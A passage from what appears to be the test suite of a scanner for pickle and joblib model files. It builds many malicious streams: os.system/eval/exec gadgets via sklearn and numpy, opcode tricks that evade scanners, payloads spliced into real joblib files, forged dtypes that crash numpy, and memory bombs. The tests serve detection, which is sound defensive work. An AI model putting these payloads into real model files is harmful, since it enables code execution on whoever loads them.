    ddict = call(g("collections", "defaultdict", 4), factory)
    return wrap(call(g("operator", "getitem", 4), ddict, s("missing", 4)), 4)


@attack(
    "gadget",
    expect=named("sklearn.preprocessing._function_transformer.FunctionTransformer.transform"),
)
def sklearn_function_transformer_at_load(marker: Path) -> bytes:
    """FunctionTransformer(os.system).transform(cmd), called during unpickling."""
    ft_module = "sklearn.preprocessing._function_transformer"
    ft = call(g(ft_module, "FunctionTransformer", 4), g("os", "system", 4))
    return wrap(
        call(g(ft_module, "FunctionTransformer.transform", 4), ft, s(shell_cmd(marker), 4)), 4
    )


@attack("gadget", "use", expect=named("posix.system"))
def sklearn_function_transformer_holding_system(marker: Path) -> bytes:
    """A real joblib Pipeline whose FunctionTransformer.func is os.system: fires on transform."""
    import os

    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    del marker  # fires with whatever the victim passes to transform/predict
    return joblib_bytes(make_pipeline(FunctionTransformer(os.system)))


@attack(
    "gadget",
    expect=r"calls numpy\.random\._pickle\.__randomstate_ctor with a constructor other than "
    r"numpy's __bit_generator_ctor",
    second_wall_expect=named("os.system"),
)
def numpy_random_pickle_ctor_gadget(marker: Path) -> bytes:
    """numpy.random._pickle.__randomstate_ctor(cmd, os.system): an allowed-looking caller."""
    ctor = g("numpy.random._pickle", "__randomstate_ctor", 4)
    return wrap(call(ctor, s(shell_cmd(marker), 4), g("os", "system", 4)), 4)


# === 5. opcode-level scanner evasion ==========================================================


def _eval_tail(marker: Path) -> bytes:
    return s(py_src(marker), 4) + TUPLE1 + REDUCE


@attack("opcode", expect=named("builtins.eval"))
def memo_stack_global_binput_binget(marker: Path) -> bytes:
    """Module/name stored with BINPUT, popped, decoys pushed, fetched back with BINGET."""
    body = (
        short_binunicode("builtins")
        + binput(1)
        + POP
        + short_binunicode("eval")
        + binput(2)
        + POP
        + short_binunicode("numpy")
        + short_binunicode("ndarray")
        + POP
        + POP
        + binget(1)
        + binget(2)
        + STACK_GLOBAL
        + _eval_tail(marker)
    )
    return wrap(body, 4)


@attack("opcode", expect=named("builtins.exec"))
def memo_stack_global_memoize_long_binget(marker: Path) -> bytes:
    """MEMOIZE (implicit indices) then LONG_BINGET."""
    body = (
        short_binunicode("sklearn")
        + MEMOIZE
        + POP  # memo 0: decoy
        + short_binunicode("builtins")
        + MEMOIZE
        + POP  # memo 1
        + short_binunicode("exec")
        + MEMOIZE
        + POP  # memo 2
        + long_binget(1)
        + long_binget(2)
        + STACK_GLOBAL
        + _eval_tail(marker)
    )
    return wrap(body, 4)


@attack("opcode", expect=named("builtins.eval"))
def memo_stack_global_put_get_text(marker: Path) -> bytes:
    """Text PUT/GET (protocol 0 memo opcodes) feeding a protocol-4 STACK_GLOBAL."""
    body = (
        unicode0("builtins")
        + put(7)
        + POP
        + unicode0("eval")
        + put(8)
        + POP
        + get(7)
        + get(8)
        + STACK_GLOBAL
        + _eval_tail(marker)
    )
    return wrap(body, 4)


@attack("opcode", expect=named("builtins.eval"))
def memo_overwrite_put(marker: Path) -> bytes:
    """A memo slot first holds a trusted module name, then is overwritten with 'builtins'."""
    body = (
        short_binunicode("sklearn.pipeline")
        + binput(3)
        + POP
        + short_binunicode("Pipeline")
        + binput(4)
        + POP
        + short_binunicode("builtins")
        + binput(3)
        + POP
        + short_binunicode("eval")
        + binput(4)
        + POP
        + binget(3)
        + binget(4)
        + STACK_GLOBAL
        + _eval_tail(marker)
    )
    return wrap(body, 4)


@attack("opcode", expect=named("builtins.exec"))
def memo_put_inside_pop_mark(marker: Path) -> bytes:
    """Strings memoised inside a MARK region that POP_MARK discards, then fetched."""
    body = (
        MARK
        + short_binunicode("builtins")
        + binput(5)
        + short_binunicode("exec")
        + binput(6)
        + POP_MARK
        + binget(5)
        + binget(6)
        + STACK_GLOBAL
        + _eval_tail(marker)
    )
    return wrap(body, 4)


@attack("opcode", expect=named("os.system"))
def stack_global_raw_unicode_escape(marker: Path) -> bytes:
    """STACK_GLOBAL from UNICODE strings spelled with \\u escapes ('o\\u0073', 'sy\\u0073tem')."""
    body = (
        b"Vo\\u0073\n"
        + b"Vsy\\u0073tem\n"
        + STACK_GLOBAL
        + s(shell_cmd(marker), 4)
        + TUPLE1
        + REDUCE
    )
    return wrap(body, 4)


@attack("opcode", expect=named("os.system"))
def stack_global_escaped_string(marker: Path) -> bytes:
    """STACK_GLOBAL from protocol-0 STRING literals with \\x escapes, decoded to str."""
    body = (
        string0("o\\x73")
        + string0("\\x73ystem")
        + STACK_GLOBAL
        + s(shell_cmd(marker), 4)
        + TUPLE1
        + REDUCE
    )
    return wrap(body, 4)


@attack("opcode", expect=named("builtins.eval"))
def stack_global_short_binstring(marker: Path) -> bytes:
    """STACK_GLOBAL from py2 SHORT_BINSTRINGs (decoded to str by the unpickler)."""
    body = short_binstring("builtins") + short_binstring("eval") + STACK_GLOBAL + _eval_tail(marker)
    return wrap(body, 4)


@attack("opcode", expect=named("builtins.exec"))
def stack_global_binunicode8(marker: Path) -> bytes:
    """STACK_GLOBAL from BINUNICODE8 strings."""
    body = binunicode8("builtins") + binunicode8("exec") + STACK_GLOBAL + _eval_tail(marker)
    return wrap(body, 4)


@attack("opcode", expect=named("numpy.testing._private.utils.os.system"))
def stack_global_dotted_through_allowed_module(marker: Path) -> bytes:
    """('numpy', 'testing._private.utils.os.system'): resolved attribute by attribute."""
    module, name = reexported("numpy", "testing._private.utils.os.system")
    return wrap(call(g(module, name, 4), s(shell_cmd(marker), 4)), 4)


@attack("opcode", expect=named("os.path.os.system"))
def global_opcode_dotted_name_p4(marker: Path) -> bytes:
    """GLOBAL 'os' 'path.os.system' under a PROTO 4 header (dotted names resolve at 4+)."""
    return wrap(call(global_op("os", "path.os.system"), s(shell_cmd(marker), 4)), 4)


@attack("opcode", expect=named("os.system"))
def inst_opcode_p0(marker: Path) -> bytes:
    """INST os system: the class-instantiating opcode calls any callable."""
    return wrap(MARK + unicode0(shell_cmd(marker)) + inst("os", "system"), 0)


@attack("opcode", expect=named("builtins.eval"))
def obj_opcode_p1(marker: Path) -> bytes:
    """OBJ: MARK callable args OBJ calls callable(*args)."""
    return wrap(MARK + global_op("builtins", "eval") + binunicode(py_src(marker)) + OBJ, 1)


def _ext_registered(opcode: Callable[[int], bytes], code: int) -> Builder:
    def build(marker: Path) -> bytes:
        register_ext = call(
            g("copyreg", "add_extension", 2), s("builtins", 2), s("exec", 2), binint(code)
        )
        return wrap(register_ext + POP + opcode(code) + tup(s(py_src(marker), 2)) + REDUCE, 2)

    return build


register(
    "ext1_registered_in_stream",
    _ext_registered(ext1, 0xF1),
    "opcode",
    "pickle",
    "copyreg.add_extension('builtins', 'exec', 241) in the stream, then EXT1 241",
    expect=r"extension registry \(code 241\).*\(EXT1 at byte",
    second_wall_expect=named("copyreg.add_extension"),
)
register(
    "ext2_registered_in_stream",
    _ext_registered(ext2, 0xF123),
    "opcode",
    "pickle",
    "the same with EXT2 (code 0xF123)",
    expect=r"extension registry \(code 61731\).*\(EXT2 at byte",
    second_wall_expect=named("copyreg.add_extension"),
)
register(
    "ext4_registered_in_stream",
    _ext_registered(ext4, 0x1234567),
    "opcode",
    "pickle",
    "the same with EXT4 (code 0x1234567)",
    expect=r"extension registry \(code 19088743\).*\(EXT4 at byte",
    second_wall_expect=named("copyreg.add_extension"),
)


@attack(
    "opcode",
    "never",
    expect=r"extension registry \(code 238\).*\(EXT1 at byte 2\)",
    second_wall_expect=r"unregistered extension code 238",
)
def ext1_unregistered(marker: Path) -> bytes:
    """EXT1 with a code nobody registered: refused whatever the registry holds."""
    return wrap(ext1(0xEE) + tup(s(py_src(marker), 2)) + REDUCE, 2)


@attack(
    "opcode",
    "never",
    expect=r"extension registry \(code 2147483632\).*\(EXT4 at byte 2\)",
    second_wall_expect=r"unregistered extension code 2147483632",
)
def ext4_only(marker: Path) -> bytes:
    """A bare EXT4 as the whole model: the scanner cannot know what it names."""
    del marker
    return wrap(ext4(0x7FFFFFF0), 2)


@attack(
    "opcode",
    expect=r"calls functools\.partial by NEWOBJ",
    second_wall_expect=named("builtins.exec"),
)
def newobj_functools_partial(marker: Path) -> bytes:
    """NEWOBJ on functools.partial (its __new__ builds the partial), then call it."""
    part = g("functools", "partial", 4) + tup(g("builtins", "exec", 4), s(py_src(marker), 4))
    return wrap(part + NEWOBJ + EMPTY_TUPLE + REDUCE, 4)


@attack(
    "opcode",
    expect=r"calls functools\.partial with keyword arguments",
    second_wall_expect=named("builtins.open"),
)
def newobj_ex_functools_partial(marker: Path) -> bytes:
    """NEWOBJ_EX on functools.partial with keyword args, then call it."""
    part = (
        g("functools", "partial", 4)
        + tup(g("builtins", "open", 4), s(str(marker), 4))
        + dct((s("mode", 4), s("w", 4)))
    )
    return wrap(part + NEWOBJ_EX + EMPTY_TUPLE + REDUCE, 4)


@attack("opcode", expect=named("os.system"))
def build_setstate_injection(marker: Path) -> bytes:
    """BUILD puts os.system in a StandardScaler's __dict__ as __setstate__; a 2nd BUILD calls it."""
    # Made as its pickles make it (NEWOBJ, no arguments): only the injected name is wrong.
    scaler = g("sklearn.preprocessing._data", "StandardScaler", 4) + EMPTY_TUPLE + NEWOBJ
    first = dct((s("__setstate__", 4), g("os", "system", 4))) + BUILD
    second = s(shell_cmd(marker), 4) + BUILD
    return wrap(scaler + first + second, 4)


@attack(
    "opcode",
    "never",
    expect=r"persistent id, which safeload never writes; refused \(PERSID at byte 0\)",
    second_wall_expect=r"unsupported persistent id encountered",
)
def persid_opcode(marker: Path) -> bytes:
    """PERSID: defers to the loader's persistent_load; no model needs it."""
    return wrap(b"P" + str(marker).encode() + b"\n", 0)


@attack(
    "opcode",
    "never",
    expect=r"persistent id, which safeload never writes; refused \(BINPERSID at byte \d+\)",
    second_wall_expect=r"unsupported persistent id encountered",
)
def binpersid_opcode(marker: Path) -> bytes:
    """BINPERSID on a tuple naming a file."""
    return wrap(tup(s("file", 4), s(str(marker), 4)) + BINPERSID, 4)


@attack("opcode", expect=named("builtins.exec"))
def proto2_header_proto4_opcodes(marker: Path) -> bytes:
    """A PROTO 2 header followed by protocol-4 opcodes (SHORT_BINUNICODE, STACK_GLOBAL, MEMOIZE)."""
    body = g("builtins", "exec", 4) + _eval_tail(marker)
    return wrap(body, 2)


@attack("opcode", expect=named("builtins.exec"))
def no_proto_header_stack_global(marker: Path) -> bytes:
    """No PROTO header at all (protocol 0 assumed) but STACK_GLOBAL and friends."""
    return wrap(g("builtins", "exec", 4) + _eval_tail(marker), 0)


@attack("opcode", expect=named("builtins.exec"))
def proto5_framed_payload(marker: Path) -> bytes:
    """The payload inside a FRAME, as the protocol-5 pickler writes it."""
    return proto(5) + frame(g("builtins", "exec", 5) + _eval_tail(marker) + STOP)


@attack("opcode", expect=named("builtins.eval"))
def global_py2_builtin_eval(marker: Path) -> bytes:
    """GLOBAL '__builtin__' 'eval': fix_imports maps it to builtins.eval below protocol 3."""
    return wrap(call(global_op("__builtin__", "eval"), s(py_src(marker), 2)), 2)


@attack("opcode", expect=named("subprocess.getoutput"))
def global_py2_commands_getoutput(marker: Path) -> bytes:
    """GLOBAL 'commands' 'getoutput': fix_imports maps the py2 module to subprocess."""
    return wrap(call(global_op("commands", "getoutput"), unicode0(shell_cmd(marker))), 0)


@attack("opcode", expect=named("pickle.loads"))
def global_py2_cpickle_loads(marker: Path) -> bytes:
    """GLOBAL 'cPickle' 'loads' (mapped to pickle.loads) on a nested malicious pickle."""
    text = inner_pickle(marker).decode("latin-1")
    data = call(global_op("_codecs", "encode"), s(text, 2), s("latin1", 2))
    return wrap(call(global_op("cPickle", "loads"), data), 2)


@attack("opcode", "never", expect=named("\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d"))
def unicode_confusable_global(marker: Path) -> bytes:
    """Fullwidth 'os'.'system' (U+FF4F U+FF53 ...): a look-alike name must not be accepted."""
    return wrap(
        call(g("\uff4f\uff53", "\uff53\uff59\uff53\uff54\uff45\uff4d", 4), s(shell_cmd(marker), 4)),
        4,
    )


@attack(
    "opcode",
    "multi-load",
    expect=r"\d+ byte\(s\) follow the end of the pickle stream",
    second_wall_expect=r"\d+ unexpected byte\(s\) after the end of the model stream",
)
def bytes_after_stop(marker: Path) -> bytes:
    """A clean pickle, then a second (malicious) pickle after its STOP."""
    return pickle.dumps({"coef": [1.0, 2.0]}, protocol=4) + inner_pickle(marker, 4)


@attack("opcode", expect=named("builtins.open"))
def payload_then_invalid_opcode(marker: Path) -> bytes:
    """The call runs, then an invalid opcode: the reader fails only after the damage."""
    return proto(4) + open_call(marker, 4) + b"\xff" + STOP


@attack("opcode", expect=named("builtins.open"))
def payload_then_truncated(marker: Path) -> bytes:
    """The call runs, then the stream ends without STOP."""
    return proto(4) + open_call(marker, 4) + POP + NONE


# === 6. joblib containers =====================================================================


def _dtype_op(code: str, state: tuple[Any, ...]) -> bytes:
    return call(g("numpy", "dtype", 4), s(code, 4), NEWFALSE, NEWTRUE) + lit(state) + BUILD


def array_wrapper(shape: tuple[int, ...], dtype: bytes, *, aligned: bool) -> bytes:
    """A hand-built ``NumpyArrayWrapper`` + BUILD, exactly like joblib 1.x writes it."""
    pairs = [
        (s("subclass", 4), g("numpy", "ndarray", 4)),
        (s("shape", 4), lit(shape)),
        (s("order", 4), s("C", 4)),
        (s("dtype", 4), dtype),
        (s("allow_mmap", 4), NEWFALSE),
    ]
    if aligned:
        pairs.append((s("numpy_array_alignment_bytes", 4), binint(16)))
    wrapper = g("joblib.numpy_pickle", "NumpyArrayWrapper", 4) + EMPTY_TUPLE + NEWOBJ
    return wrapper + dct(*pairs) + BUILD


F8 = ("f8", (3, "<", None, None, None, -1, -1, 0))
O8 = ("O8", (3, "|", None, None, None, -1, -1, 63))


@attack("joblib", "joblib", expect=named("builtins.open"))
def joblib_payload_after_array(marker: Path) -> bytes:
    """A real joblib file with a call spliced in right after a numpy array's raw bytes."""
    coef = np.array([0.125, 0.25, 0.5, 0.75])
    data = joblib_bytes({"coef": coef, "intercept": 1.5})
    end = data.index(coef.tobytes()) + coef.nbytes
    return data[:end] + open_call(marker, 4) + POP + data[end:]


@attack("joblib", "joblib", expect=named("io.open"))
def joblib_object_array_nested(marker: Path) -> bytes:
    """A real joblib object-dtype array: its nested pickle holds a malicious object."""
    arr = np.empty(2, dtype=object)
    arr[0] = "feature"
    arr[1] = _Reduce(open, (str(marker), "w"))
    return joblib_bytes({"classes": arr})


@attack("joblib", "joblib", expect=named("io.open"))
def joblib_crafted_object_dtype(marker: Path) -> bytes:
    """A hand-built wrapper declaring dtype O: what follows is a call, not an array pickle."""
    header = array_wrapper((1,), _dtype_op(*O8), aligned=False)
    return wrap(header + inner_pickle(marker, 2), 4)


@attack("joblib", "joblib", expect=named("io.open"))
def joblib_structured_dtype_object_field(marker: Path) -> bytes:
    """A structured dtype with an object field (kind 'V', hasobject): joblib unpickles it."""
    arr = np.empty(1, dtype=[("a", "O"), ("b", "<f8")])
    arr[0] = (_Reduce(open, (str(marker), "w")), 1.0)
    return joblib_bytes(arr)


@attack(
    "joblib",
    "sidecar",
    expect=r"legacy joblib array wrapper joblib\.numpy_pickle_compat\.NDArrayWrapper \(joblib < "
    r"0\.10\)",
    second_wall_expect=named("joblib.numpy_pickle_compat.NDArrayWrapper"),
)
def joblib_legacy_ndarraywrapper(marker: Path) -> bytes:
    """Legacy NDArrayWrapper: joblib calls np.load(filename, allow_pickle=True) on a sidecar."""
    state = dct(
        (s("filename", 4), s(str(marker.with_name("evil.npy")), 4)),
        (s("subclass", 4), g("numpy", "ndarray", 4)),
        (s("allow_mmap", 4), NEWFALSE),
    )
    cls = g("joblib.numpy_pickle_compat", "NDArrayWrapper", 4)
    return wrap(cls + EMPTY_TUPLE + NEWOBJ + state + BUILD, 4)


@attack(
    "joblib",
    "sidecar",
    expect=r"legacy joblib array wrapper joblib\.numpy_pickle\.NDArrayWrapper \(joblib < 0\.10\)",
    second_wall_expect=named("joblib.numpy_pickle.NDArrayWrapper"),
)
def joblib_legacy_ndarraywrapper_old_module(marker: Path) -> bytes:
    """The same wrapper under its pre-0.10 home, joblib.numpy_pickle.NDArrayWrapper."""
    state = dct(
        (s("filename", 2), s(str(marker.with_name("evil.npy")), 2)),
        (s("subclass", 2), g("numpy", "ndarray", 2)),
        (s("allow_mmap", 2), NEWFALSE),
    )
    cls = global_op("joblib.numpy_pickle", "NDArrayWrapper")
    return wrap(cls + EMPTY_TUPLE + NEWOBJ + state + BUILD, 2)


@attack(
    "joblib",
    "sidecar",
    expect=r"legacy joblib array wrapper joblib\.numpy_pickle_compat\.ZNDArrayWrapper \(joblib < "
    r"0\.10\)",
    second_wall_expect=named("joblib.numpy_pickle_compat.ZNDArrayWrapper"),
)
def joblib_legacy_zndarraywrapper(marker: Path) -> bytes:
    """Legacy ZNDArrayWrapper (zlib sidecar + _reconstruct(*init_args))."""
    state = dct(
        (s("filename", 2), s(str(marker.with_name("evil.z")), 2)),
        (s("init_args", 2), tup(g("numpy", "ndarray", 2), tup(binint(0)), s("b", 2))),
        (s("state", 2), NONE),
    )
    cls = global_op("joblib.numpy_pickle_compat", "ZNDArrayWrapper")
    return wrap(cls + EMPTY_TUPLE + NEWOBJ + state + BUILD, 2)


@attack("joblib", "joblib", expect=r"legacy joblib 'zfile' container \(joblib < 0\.9\.3\) refused")
def joblib_legacy_zfile_container(marker: Path) -> bytes:
    """joblib < 0.9.3 'ZF' container (hex length + zlib): joblib still reads it by path."""
    from joblib.numpy_pickle_compat import write_zfile

    buffer = io.BytesIO()
    write_zfile(buffer, inner_pickle(marker, 2))
    return buffer.getvalue()


@attack(
    "joblib",
    "never",
    bomb=True,
    expect=r"a joblib array declares 8796093022208 bytes, more than ScanLimits\.max_array_bytes",
    second_wall_expect=r"array of 8796093022208 bytes declared at offset \d+ runs past the end of "
    r"the file",
)
def joblib_huge_declared_shape(marker: Path) -> bytes:
    """A wrapper declaring shape (2**40,) float64 (8 TiB) followed by 8 bytes."""
    del marker
    header = array_wrapper((2**40,), _dtype_op(*F8), aligned=True)
    return proto(4) + header + b"\x00" + bytes(8) + STOP


@attack(
    "joblib",
    "never",
    bomb=True,
    expect=r"the array wrapper declares a negative shape",
    second_wall_expect=r"negative array shape \(-1, 4611686018427387904\)",
)
def joblib_negative_declared_shape(marker: Path) -> bytes:
    """A wrapper declaring shape (-1, 2**62): negative and overflowing sizes."""
    del marker
    header = array_wrapper((-1, 2**62), _dtype_op(*F8), aligned=True)
    return proto(4) + header + b"\x00" + bytes(8) + STOP


@attack(
    "joblib",
    "never",
    bomb=True,
    expect=r"a joblib array declares 147573952589676412928 bytes, more than "
    r"ScanLimits\.max_array_bytes",
    second_wall_expect=r"array of 147573952589676412928 bytes declared at offset \d+ runs past "
    r"the end of the file",
)
def joblib_overflowing_declared_shape(marker: Path) -> bytes:
    """A wrapper declaring shape (2**64,): past int64, where size arithmetic overflows."""
    del marker
    header = array_wrapper((2**64,), _dtype_op(*F8), aligned=True)
    return proto(4) + header + b"\x00" + bytes(8) + STOP


# === 6b. memory safety: numpy trusts a dtype's pickled flags =================================


def forged_object_dtype() -> bytes:
    """A structured dtype with one object field whose flags say "holds no objects" (0)."""
    field = call(g("numpy", "dtype", 4), s("O8", 4), NEWFALSE, NEWTRUE) + lit(O8[1]) + BUILD
    state = tup(
        binint(3),
        s("|", 4),
        NONE,
        tup(s("a", 4)),
        dct((s("a", 4), tup(field, binint(0)))),
        binint(8),
        binint(1),
        binint(0),
    )
    return call(g("numpy", "dtype", 4), s("V8", 4), NEWFALSE, NEWTRUE) + state + BUILD


@attack(
    "memory",
    "never",
    isolate=True,
    expect=r"a numpy dtype is pickled in a form numpy never writes \(its state is not the one "
    r"numpy writes for that dtype\)",
)
def numpy_forged_dtype_frombuffer(marker: Path) -> bytes:
    """_frombuffer(8 bytes, forged dtype): raw bytes become a PyObject* (0x4141...): SIGSEGV."""
    del marker
    args = (binbytes(b"\x41" * 8), forged_object_dtype(), tup(binint(1)), s("C", 4))
    return wrap(call(g("numpy._core.numeric", "_frombuffer", 4), *args), 4)


@attack(
    "memory",
    "never",
    isolate=True,
    expect=r"a numpy dtype is pickled in a form numpy never writes \(its state is not the one "
    r"numpy writes for that dtype\)",
)
def joblib_forged_dtype_array(marker: Path) -> bytes:
    """A joblib array whose forged dtype hides an object field: its raw bytes are pointers."""
    del marker
    header = array_wrapper((1,), forged_object_dtype(), aligned=True)
    return proto(4) + header + b"\x00" + b"\x41" * 8 + STOP


# === 6c. call rules: default-policy names called in a form their pickles never take =========
#
# Each stream names only default-policy globals (or, where ``policy`` says so, a name a user
# added). ``safeload._default_types`` gives each callable the one form of call its own pickles
# take; each attack below is the form that one rule exists to refuse, so that losing that rule's
# check in either wall fails a test. Sizes are absurd (2**50) so that a call that gets through
# fails fast (MemoryError) instead of allocating; those that would hang or crash are isolated.

HUGE = 2**50


def _ndarray() -> bytes:
    return g("numpy", "ndarray", 4)


def _fresh_dtype(code: str) -> bytes:
    """numpy.dtype(code, False, True), as numpy pickles it (before its BUILD)."""
    return call(g("numpy", "dtype", 4), s(code, 4), NEWFALSE, NEWTRUE)


def _tuple_dag(levels: int) -> bytes:
    """t[i] = (t[i-1], t[i-1]) through the memo: pushes t[levels], 2**levels tuples to hash."""
    body = EMPTY_TUPLE + long_binput(0) + POP
    for i in range(1, levels + 1):
        body += long_binget(i - 1) + long_binget(i - 1) + TUPLE2 + long_binput(i) + POP
    return body + long_binget(levels)


@attack(
    "call-rule",
    "never",
    isolate=True,
    expect=r"calls numpy\.dtype with something other than a plain numpy type code",
)
def rule_dtype_from_a_field_list(marker: Path) -> bytes:
    """numpy.dtype([('a', 'O')]) given to _frombuffer: numpy pickles a dtype by its code only."""
    del marker
    spec = call(g("numpy", "dtype", 4), lst(tup(s("a", 4), s("O", 4))))
    args = (binbytes(b"\x41" * 8), spec, tup(binint(1)), s("C", 4))
    return wrap(call(g("numpy._core.numeric", "_frombuffer", 4), *args), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls numpy\._core\.multiarray\._reconstruct with other than "
    r"\(<array class>, \(0,\), b'b'\)",
)
def rule_reconstruct_huge_shape(marker: Path) -> bytes:
    """_reconstruct(ndarray, (2**50,), b'b'): an allocation the file chooses (numpy writes (0,))."""
    del marker
    return wrap(
        call(g("numpy._core.multiarray", "_reconstruct", 4), _ndarray(), lit((HUGE,)), lit(b"b")),
        4,
    )


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls numpy\.ma\.core\._mareconstruct with other than "
    r"\(<class>, <class>, \(0,\), 'b'\)",
)
def rule_mareconstruct_huge_shape(marker: Path) -> bytes:
    """_mareconstruct(MaskedArray, ndarray, (2**50,), 'b'): the same for masked arrays."""
    del marker
    masked = g("numpy.ma.core", "MaskedArray", 4)
    fn = g("numpy.ma.core", "_mareconstruct", 4)
    return wrap(call(fn, masked, _ndarray(), lit((HUGE,)), s("b", 4)), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    isolate=True,
    expect=r"calls numpy\._core\.multiarray\.scalar with other than \(<dtype>, <raw bytes>\)",
)
def rule_scalar_one_argument(marker: Path) -> bytes:
    """scalar(dtype('V999999999')): the one-argument form zero-fills a file-chosen itemsize."""
    del marker
    return wrap(call(g("numpy._core.multiarray", "scalar", 4), _fresh_dtype("V999999999")), 4)


@attack(
    "call-rule",
    "never",
    expect=r"calls numpy\._core\.numeric\._frombuffer on something other than bytes from the file",
)
def rule_frombuffer_of_a_list(marker: Path) -> bytes:
    """_frombuffer([1, 2], f8, (2,), 'C'): a view over whatever object the file hands it."""
    del marker
    args = (lst(binint(1), binint(2)), _fresh_dtype("f8"), tup(binint(2)), s("C", 4))
    return wrap(call(g("numpy._core.numeric", "_frombuffer", 4), *args), 4)


@attack(
    "call-rule",
    "never",
    expect=r"calls numpy\.random\._pickle\.__bit_generator_ctor with something other than "
    r"a bit generator's name or class",
)
def rule_bit_generator_ctor_calls_a_class(marker: Path) -> bytes:
    """__bit_generator_ctor(numpy.ndarray): it calls the class it is given."""
    del marker
    return wrap(call(g("numpy.random._pickle", "__bit_generator_ctor", 4), _ndarray()), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls numpy\.random\._pickle\.__generator_ctor with something other than "
    r"a bit generator or its name",
)
def rule_generator_ctor_launders_a_call(marker: Path) -> bytes:
    """__generator_ctor((2**50,), numpy.ndarray) calls ndarray((2**50,)): a laundered call."""
    del marker
    fn = g("numpy.random._pickle", "__generator_ctor", 4)
    return wrap(call(fn, lit((HUGE,)), _ndarray()), 4)


@attack(
    "call-rule",
    "never",
    expect=r"calls sklearn\.neighbors\._kd_tree\.newObj with something other than one class "
    r"of sklearn\.neighbors\._kd_tree",
    second_wall_expect=r"calls sklearn\.neighbors\._kd_tree\.newObj with something other than "
    r"a class of its own module",
)
def rule_newobj_of_another_module(marker: Path) -> bytes:
    """kd_tree.newObj(BallTree): an uninitialised Cython object of a class it does not own."""
    del marker
    ball_tree = g("sklearn.neighbors._ball_tree", "BallTree", 4)
    return wrap(call(g("sklearn.neighbors._kd_tree", "newObj", 4), ball_tree), 4)


@attack(
    "call-rule",
    "never",
    expect=r"calls numpy\.random\.bit_generator\.__pyx_unpickle_SeedSequence with other than "
    r"\(numpy\.random\.bit_generator\.SeedSequence, <checksum>, <state>\)",
    second_wall_expect=r"calls numpy\.random\.bit_generator\.__pyx_unpickle_SeedSequence with "
    r"other than \(<its class>, <checksum>, <state>\)",
)
def rule_pyx_unpickle_of_another_class(marker: Path) -> bytes:
    """__pyx_unpickle_SeedSequence(MT19937, 0, None): Cython's helper creates what it is given."""
    del marker
    fn = g("numpy.random.bit_generator", "__pyx_unpickle_SeedSequence", 4)
    mt = g("numpy.random._mt19937", "MT19937", 4)
    return wrap(call(fn, mt, binint(0), NONE), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls sklearn\.tree\._tree\.Tree with class counts that are not",
)
def rule_tree_huge_outputs(marker: Path) -> bytes:
    """Tree(4, 2, 2**50): n_outputs sizes its allocations, n_classes is read n_outputs times."""
    del marker
    return wrap(call(g("sklearn.tree._tree", "Tree", 4), binint(4), binint(2), lit(HUGE)), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    isolate=True,
    expect=r"take more than 50000000 steps to hash \(ScanLimits\.max_hash_work\)",
    second_wall_expect=r"a value it hashes takes more than 50000000 steps",
)
def rule_set_of_a_tuple_dag(marker: Path) -> bytes:
    """builtins.set([t64]), t64 a memo-shared tuple DAG: set() hashes its items (2**64 steps)."""
    del marker
    return wrap(call(g("builtins", "set", 4), EMPTY_LIST + _tuple_dag(64) + APPEND), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls scipy\.sparse\._csr\.csr_matrix by REDUCE, which would run its constructor",
)
def rule_sparse_init_by_reduce(marker: Path) -> bytes:
    """csr_matrix((2**50, 1)) by REDUCE: __init__ allocates indptr (pickles use NEWOBJ + BUILD)."""
    del marker
    return wrap(call(g("scipy.sparse._csr", "csr_matrix", 4), lit((HUGE, 1))), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    isolate=True,
    expect=r"calls collections\.OrderedDict with arguments",
)
def rule_ordered_dict_items(marker: Path) -> bytes:
    """OrderedDict([(t64, None)]): its items are hashed by the constructor, outside any budget."""
    del marker
    items = EMPTY_LIST + tup(_tuple_dag(64), NONE) + APPEND
    return wrap(call(g("collections", "OrderedDict", 4), items), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls sklearn\.tree\._tree\.Tree with keyword arguments",
)
def rule_tree_keywords_by_newobj_ex(marker: Path) -> bytes:
    """NEWOBJ_EX Tree(n_features=4, n_classes=2, n_outputs=2**50): keywords reach __cinit__."""
    del marker
    kwargs = dct(
        (s("n_features", 4), binint(4)),
        (s("n_classes", 4), binint(2)),
        (s("n_outputs", 4), lit(HUGE)),
    )
    return wrap(g("sklearn.tree._tree", "Tree", 4) + EMPTY_TUPLE + kwargs + NEWOBJ_EX, 4)


@attack(
    "call-rule",
    "never",
    expect=r"calls numpy\._core\.multiarray\._reconstruct with arguments the scanner cannot read",
    second_wall_expect=r"calls numpy\._core\.multiarray\._reconstruct with arguments that are "
    r"not a tuple",
)
def rule_reduce_arguments_in_a_list(marker: Path) -> bytes:
    """REDUCE with a list of arguments (pickle spreads any iterable): rules are for tuples."""
    del marker
    args = lst(_ndarray(), lit((0,)), lit(b"b"))
    return wrap(g("numpy._core.multiarray", "_reconstruct", 4) + args + REDUCE, 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls numpy\._core\.multiarray\._reconstruct by OBJ",
)
def rule_reconstruct_by_obj(marker: Path) -> bytes:
    """_reconstruct(ndarray, (2**50,), b'b') by OBJ: another opcode must not sidestep the rule."""
    del marker
    fn = g("numpy._core.multiarray", "_reconstruct", 4)
    return wrap(MARK + fn + _ndarray() + lit((HUGE,)) + lit(b"b") + OBJ, 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    expect=r"calls copyreg\._reconstructor with other than \(<class>, object, None\)",
)
def copyreg_reconstructor_runs_an_init(marker: Path) -> bytes:
    """copyreg._reconstructor(csr, csr, (2**50, 1)) runs csr.__init__ on the file's shape."""
    del marker
    csr = g("scipy.sparse._csr", "csr_matrix", 4)
    fn = g("copyreg", "_reconstructor", 4)
    return wrap(call(fn, csr, csr, lit((HUGE, 1))), 4)


@attack(
    "call-rule",
    "never",
    bomb=True,
    policy=("copyreg:__newobj__",),
    expect=r"calls copyreg\.__newobj__ to construct numpy\.ndarray, which the policy trusts only "
    r"as a reference",
    second_wall_expect=r"calls copyreg\.__newobj__ to construct a class the policy does not let "
    r"the file call",
)
